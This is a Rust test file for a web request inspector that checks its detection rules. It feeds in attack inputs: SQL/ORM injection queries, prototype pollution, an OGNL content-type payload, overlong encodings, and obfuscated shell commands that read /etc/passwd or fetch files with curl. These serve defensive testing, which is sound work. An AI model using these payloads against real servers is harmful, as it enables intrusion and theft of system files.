    let nested = "{\"a\":".repeat(5_000) + "1" + &"}".repeat(5_000);
    let json: &[(&str, &[u8])] = &[("host", b"x"), ("content-type", b"application/json")];
    let _ = s.inspect(&Facts {
        method: "POST",
        path: "/",
        query: None,
        headers: json,
        body: Some(nested.as_bytes()),
        profile: Profile::Public,
        host_in_authority: false,
    });
    let bytes: Vec<u8> = (0..=255u8).cycle().take(100_000).collect();
    let _ = s.inspect(&Facts {
        method: "POST",
        path: "/",
        query: None,
        headers: json,
        body: Some(&bytes),
        profile: Profile::Public,
        host_in_authority: false,
    });
}

#[test]
fn every_rule_has_a_unique_id_and_compiles() {
    let mut ids: Vec<u32> = RULES.iter().map(|r| r.id).collect();
    ids.sort();
    let n = ids.len();
    ids.dedup();
    assert_eq!(ids.len(), n, "duplicate rule ids");
    for r in RULES {
        assert!(
            regex::Regex::new(r.pattern).is_ok(),
            "rule {} does not compile",
            r.id
        );
        assert!(!r.description.is_empty());
    }
}

#[test]
fn catalogue_lists_every_rule_once() {
    use crate::rules::ids::*;
    let all = crate::rules::catalogue();
    let code = [
        LIBINJECTION_SQLI,
        LIBINJECTION_XSS,
        JAVA_BASE64_GADGET,
        MAIL_SMUGGLING,
        DOTFILE,
        BAD_METHOD,
        AMBIGUOUS_FRAMING,
        BAD_HOST,
        BAD_CONTENT_TYPE,
        BAD_CHARSET,
        CONTROL_BYTES,
        RANGE_ABUSE,
        METHOD_OVERRIDE,
        BODY_ON_GET,
        OVERLONG_ENCODING,
        HEADER_INJECTION,
        SQL_COMMENT_EVASION,
    ];
    assert_eq!(all.len(), crate::rules::RULES.len() + code.len());
    assert!(code.iter().all(|id| crate::rules::exists(*id)));
    let mut ids: Vec<u32> = all.iter().map(|r| r.id).collect();
    ids.dedup();
    assert_eq!(ids.len(), all.len(), "rule ids must be unique");
    assert!(all.iter().all(|r| !r.description.is_empty()));
    assert!(crate::rules::exists(1001) && crate::rules::exists(1002) && !crate::rules::exists(1));
}

#[test]
fn a_header_is_remembered_clean_only_when_nothing_in_it_matched() {
    let s = Shield::new(InspectConfig::default()).unwrap();
    let ua = "sqlmap/1.7 (https://sqlmap.org)";
    let req = |path: &str, ua: &str| {
        let headers: Vec<(&str, &[u8])> = vec![("host", b"x"), ("user-agent", ua.as_bytes())];
        s.inspect(&Facts {
            method: "GET",
            path,
            query: None,
            headers: &headers,
            body: None,
            profile: Profile::Public,
            host_in_authority: false,
        })
    };
    // The same attack tool twice, first alongside a path that fires the same rules.
    for _ in 0..3 {
        let first = req("/", ua);
        assert!(first.is_attack(5), "{first:?}");
    }
    // A browser's agent, repeated, stays clean; an attack in the path is still seen.
    let firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0";
    assert!(!req("/about", firefox).is_attack(5));
    assert!(!req("/about", firefox).is_attack(5));
    assert!(req("/.env", firefox).is_attack(5));
}

#[test]
fn framework_lookups_prototype_paths_and_session_ids_in_names() {
    let s = shield();
    let with_query = |q: &str| {
        s.inspect(&Facts {
            method: "GET",
            path: "/search",
            query: Some(q),
            headers: &[("host", b"example.nl")],
            body: None,
            profile: Profile::Public,
            host_in_authority: false,
        })
    };
    for (q, rule) in [
        ("user__profile__icontains=x", 7011),
        ("created_by__user__username__startswith=p", 7011),
        ("a[constructor][prototype]=image", 7011),
        ("laravel_session=eyJpdiI6IktmYw", 8002),
        ("balance__gte=1000", 7011),
        ("data__has_key=is_admin", 7011),
    ] {
        let got = with_query(q);
        assert!(
            got.rule_ids().contains(&rule) && got.is_attack(DEFAULT_THRESHOLD),
            "{q}: {got:?}"
        );
    }
    for q in [
        "first_name=Anneke",
        "page__size=10",
        "sort=date",
        "session=3",
        "uname=john+doe",
        "hostname=web1",
    ] {
        let got = with_query(q);
        assert!(!got.is_attack(DEFAULT_THRESHOLD), "{q}: {got:?}");
    }
}

#[test]
fn method_overrides_bodies_on_get_and_overlong_encodings() {
    let s = shield();
    let req = |method: &str,
               path: &str,
               query: Option<&str>,
               headers: &[(&str, &[u8])],
               body: Option<&[u8]>| {
        let mut h: Vec<(&str, &[u8])> = vec![("host", b"example.nl")];
        h.extend_from_slice(headers);
        s.inspect(&Facts {
            method,
            path,
            query,
            headers: &h,
            body,
            profile: Profile::Public,
            host_in_authority: false,
        })
    };
    let form: &[(&str, &[u8])] = &[("content-type", b"application/x-www-form-urlencoded")];
    for (got, rule) in [
        (
            req("POST", "/api", Some("_method=DELETE"), form, Some(b"a=1")),
            ids::METHOD_OVERRIDE,
        ),
        (
            req(
                "POST",
                "/x",
                None,
                &[("x-http-method-override", b"PUT"), form[0]],
                Some(b"a=1"),
            ),
            ids::METHOD_OVERRIDE,
        ),
        (
            req("GET", "/", None, form, Some(b"hi=test")),
            ids::BODY_ON_GET,
        ),
        (
            req("GET", "/", Some("param=%c0%af"), &[], None),
            ids::OVERLONG_ENCODING,
        ),
        (
            req("GET", "/get", Some("test=%uff0F"), &[], None),
            ids::OVERLONG_ENCODING,
        ),
        (
            req("GET", "/", None, &[("content-range", b"test")], None),
            ids::RANGE_ABUSE,
        ),
        (
            req(
                "POST",
                "/",
                None,
                &[(
                    "content-type",
                    b"application/x-www-form-urlencoded; charset=utf-8; charset=utf-7",
                )],
                Some(b"a=1"),
            ),
            ids::BAD_CHARSET,
        ),
        (
            req(
                "GET",
                "/",
                None,
                &[(
                    "content-type",
                    b"%{(#nike='multipart/form-data').(#dm=@ognl",
                )],
                None,
            ),
            ids::BAD_CONTENT_TYPE,
        ),
    ] {
        assert!(
            got.rule_ids().contains(&rule) && got.is_attack(DEFAULT_THRESHOLD),
            "{rule}: {got:?}"
        );
    }
    // An ordinary form post and search stay clean.
    let ok = req(
        "POST",
        "/contact",
        Some("lang=nl"),
        &[(
            "content-type",
            b"application/x-www-form-urlencoded; charset=UTF-8",
        )],
        Some(b"name=Zo%C3%AB"),
    );
    assert!(!ok.is_attack(DEFAULT_THRESHOLD), "{ok:?}");
    let ok = req("GET", "/search", Some("q=caf%C3%A9+%E2%82%AC5"), &[], None);
    assert!(!ok.is_attack(DEFAULT_THRESHOLD), "{ok:?}");
}

#[test]
fn shell_evasions_with_empty_variables_are_read_as_the_shell_reads_them() {
    let s = shield();
    for attack in [
        "una$$me -a",
        "uname$u -a",
        ";c$!at /et$!c/pas$!swd",
        "cu$@rl -o /tmp/x http://x",
    ] {
        let got = arg(&s, attack);
        assert!(got.is_attack(DEFAULT_THRESHOLD), "{attack:?}: {got:?}");
    }
    assert_eq!(crate::normalize::cmdline("una$$me$u -a"), "uname -a");
    assert_eq!(
        crate::normalize::cmdline("price $5 and $x"),
        "price  and $x"
    );
}
